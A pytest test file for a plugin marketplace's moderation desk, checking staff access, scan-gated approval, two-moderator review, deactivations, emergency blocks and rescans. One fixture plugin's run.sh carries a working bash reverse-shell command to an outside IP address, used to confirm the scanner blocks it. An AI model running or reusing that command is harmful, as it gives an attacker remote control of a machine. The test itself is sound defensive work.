"""Moderators decide: what is refused, what takes two, what a deactivation clears, what a block tells."""

import pytest
from pytest_django import Settings

from marketplace.models import (
    AssignedPlugin,
    EnabledPlugin,
    Plugin,
    PluginDecision,
    PluginNotice,
    PluginVersion,
)
from marketplace.tests.desk_kit import Desk, package, post, scan, send, signed_in
from workspaces.models import AuditEntry, Role
from workspaces.tests.rest import Caller, Company, key_of

pytestmark = pytest.mark.django_db
WHY = "I have read every line of it."


def test_only_staff_reach_the_desk_and_only_with_a_key_that_stands_for_all() -> None:
    desk = Desk()
    body = desk.submit(package())
    for caller in (desk.owner, desk.outsider):
        assert caller.get("/api/admin/plugins/pending")[0] == 403
        assert caller.post(f"/api/admin/plugins/{body['id']}/approve", {})[0] == 403
    assert desk.anonymous.get("/api/admin/plugins/pending")[0] == 401
    desk.people[Role.OWNER].is_staff = True
    desk.people[Role.OWNER].save()
    assert desk.owner.get("/api/admin/plugins/pending")[1]["total"] == 1
    weak = Caller(key_of(desk.workspace, desk.people[Role.OWNER], Role.ADMIN))
    assert weak.get("/api/admin/plugins/pending")[0] == 403


def test_staff_uploads_and_a_plugin_id_means_the_version_that_waits() -> None:
    desk = Desk()
    status, body = send(desk.desk, "/api/admin/plugins/upload", package("house-style"))
    assert (status, body["slug"]) == (201, "house-style")
    scan(body["id"])
    PluginVersion.objects.filter(pk=body["id"]).update(verdict="safe")
    status, shown = desk.decide(body["plugin_id"], "approve")
    assert (status, shown["status"], shown["publisher"]) == (200, "approved", "This installation")
    assert [row["slug"] for row in desk.viewer.get("/api/marketplace/plugins")[1]["items"]] == ["house-style"]
    assert desk.viewer.get(f"/api/marketplace/plugins/{body['plugin_id']}")[1]["versions"][0]["version"] == "1.0.0"


def test_nothing_is_approved_before_its_scan_nor_against_a_block() -> None:
    desk = Desk()
    body = desk.submit(package(run__sh="bash -i >& /dev/tcp/45.77.12.9/4444 0>&1\n"))
    status, answer = desk.decide(body["id"], "approve", WHY)
    assert (status, answer["error"]["code"]) == (409, "not_scanned")
    scan(body["id"])
    row = PluginVersion.objects.get(pk=body["id"])
    assert (row.verdict, row.status) == ("blocked", "rejected")
    status, answer = desk.decide(body["id"], "approve", WHY)
    assert (status, answer["error"]["code"]) == (409, "decided")
    assert desk.decide(body["id"], "reopen", "Its author answered, so look again.")[0] == 200
    status, answer = desk.decide(body["id"], "approve", WHY)
    assert (status, answer["error"]["code"]) == (409, "blocked")


def test_a_review_takes_a_written_reason_and_two_moderators_where_there_are_two(settings: Settings) -> None:
    desk = Desk()
    body = desk.scanned(package(), safe=False)
    status, answer = desk.decide(body["id"], "approve")
    assert (status, list(answer["error"]["fields"])) == (400, ["reason"])
    second = signed_in(desk.staff("second"))
    status, answer = desk.decide(body["id"], "approve", WHY)
    assert (status, answer["status"], answer["needs_second"]) == (200, "pending", True)
    status, answer = desk.decide(body["id"], "approve", WHY)
    assert (status, answer["error"]["code"]) == (409, "second_moderator")
    status, answer = desk.decide(body["id"], "approve", "I agree with the first one.", client=second)
    assert (status, answer["status"], answer["needs_second"]) == (200, "approved", False)
    assert list(PluginDecision.objects.order_by("id").values_list("action", flat=True)) == [
        "first_approval",
        "approved",
    ]
    settings.PLUGIN_SECOND_MODERATOR = "never"
    other = desk.scanned(package(), safe=False)
    assert desk.decide(other["id"], "approve", WHY)[1]["status"] == "approved"


@pytest.mark.parametrize(("what", "status"), [("reject", "rejected"), ("request-changes", "changes_requested")])
def test_turning_down_takes_a_reason_that_the_author_reads(what: str, status: str) -> None:
    desk = Desk()
    body = desk.scanned(package())
    assert desk.decide(body["id"], what)[0] == 400
    assert desk.decide(body["id"], what, "short")[0] == 400
    assert desk.decide(body["id"], what, "Say which hosts it calls.")[1]["status"] == status
    _, shown = desk.viewer.get(f"/api/marketplace/submissions/{body['id']}")
    assert (shown["status"], shown["decisions"][0]["reason"]) == (status, "Say which hosts it calls.")
    assert AuditEntry.objects.filter(workspace_id=desk.workspace.pk, action=f"plugin.{status}").count() == 1
    code, answer = desk.decide(body["id"], "approve", WHY)
    assert (code, answer["error"]["code"]) == (409, "decided")
    assert "First" in answer["error"]["message"]


def user_of(company: Company, body: dict[str, str], agents: int) -> None:
    """The company has the version enabled, and so many agents have it."""
    for number in range(agents):
        agent = company.agent(name=f"Agent {number}")
        AssignedPlugin.objects.create(workspace=company.workspace, agent_id=agent["id"], plugin_id=body["plugin_id"])
    EnabledPlugin.objects.create(
        workspace=company.workspace, plugin_id=body["plugin_id"], version_id=body["id"],
        enabled_by=company.people[Role.OWNER],
    )  # fmt: skip


def test_a_deactivation_shows_its_counts_clears_them_and_tells_each_workspace() -> None:
    desk, first, second, other = Desk(), Company(), Company(), Company()
    body, newer = desk.approved(package("used")), desk.approved(package("used", "1.1.0"))
    user_of(first, body, agents=2)
    user_of(second, body, agents=1)
    user_of(other, newer, agents=1)
    assert desk.desk.get(f"/api/admin/plugins/{body['id']}").json()["touched"] == {"workspaces": 2, "agents": 3}
    assert desk.decide(body["id"], "deactivate")[0] == 400
    status, answer = desk.decide(body["id"], "deactivate", "It leaks names of files.")
    assert (status, answer["status"], answer["touched"]) == (200, "deactivated", {"workspaces": 2, "agents": 3})
    assert list(EnabledPlugin.objects.values_list("workspace_id", flat=True)) == [other.workspace.pk]
    assert AssignedPlugin.objects.count() == 1
    assert Plugin.objects.get(slug="used").current_version_id == PluginVersion.objects.get(pk=newer["id"]).pk
    notices = first.viewer.get("/api/marketplace/notices")[1]
    assert [(row["kind"], row["version"], row["reason"], len(row["agent_ids"])) for row in notices] == [
        ("deactivated", "1.0.0", "It leaks names of files.", 2)
    ]
    assert other.viewer.get("/api/marketplace/notices")[1] == []
    assert first.viewer.post(f"/api/marketplace/notices/{notices[0]['id']}/dismiss")[0] == 403
    assert first.admin.post(f"/api/marketplace/notices/{notices[0]['id']}/dismiss")[0] == 204
    assert first.viewer.get("/api/marketplace/notices")[1] == []
    assert len(second.viewer.get("/api/marketplace/notices")[1]) == 1


def test_deactivating_the_only_version_takes_the_plugin_out_of_the_list() -> None:
    desk = Desk()
    body = desk.approved(package())
    assert desk.decide(body["plugin_id"], "deactivate", "Nobody keeps it up.")[0] == 200
    assert desk.viewer.get("/api/marketplace/plugins")[1]["total"] == 0
    assert desk.decide(body["id"], "reopen", "Its author is back again.")[0] == 200
    assert desk.decide(body["id"], "approve")[0] == 200
    assert desk.viewer.get("/api/marketplace/plugins")[1]["total"] == 1


def test_an_emergency_block_is_everywhere_at_once_and_enabled_places_keep_their_row() -> None:
    desk, user = Desk(), Company()
    body = desk.approved(package())
    user_of(user, body, agents=1)
    status, answer = desk.decide(body["id"], "block", "It sends data to a stranger.")
    assert (status, answer["status"], answer["touched"]) == (200, "blocked", {"workspaces": 1, "agents": 1})
    assert EnabledPlugin.objects.count() == 1
    assert PluginNotice.objects.get(workspace=user.workspace).kind == "blocked"
    assert desk.decide(body["id"], "block", "Once more to be sure.")[0] == 409
    waiting = desk.submit(package())
    assert desk.decide(waiting["id"], "block", "A version that waits, too.")[1]["status"] == "blocked"


def test_a_new_scan_is_asked_for_once_at_a_time() -> None:
    desk = Desk()
    body = desk.scanned(package())
    status, made = post(desk.desk, f"/api/admin/plugins/{body['id']}/scan", {})
    assert (status, made["trigger"], made["state"]) == (202, "requested", "queued")
    assert post(desk.desk, f"/api/admin/plugins/{body['id']}/scan", {})[0] == 409
    assert desk.decide(body["id"], "approve")[1]["error"]["code"] == "not_scanned"
    scan(body["id"])
    assert PluginVersion.objects.get(pk=body["id"]).scans.count() == 2


def test_the_desk_shows_what_is_new_beside_the_approved_version() -> None:
    desk = Desk()
    desk.approved(package("grows"))
    newer = desk.scanned(package("grows", "1.1.0", run__sh="sudo make\n"))
    shown = desk.desk.get(f"/api/admin/plugins/{newer['id']}").json()
    assert shown["difference"]["against"] == "1.0.0"
    assert {(row["path"], row["kind"]) for row in shown["difference"]["files"]} == {
        ("manifest.json", "changed"), ("run.sh", "added"),
    }  # fmt: skip
    queue = desk.desk.get("/api/admin/plugins/pending?search=grows&order=age").json()
    assert [row["version"] for row in queue["items"]] == ["1.1.0"]
    assert desk.desk.get("/api/admin/plugins/pending?order=luck").status_code == 400
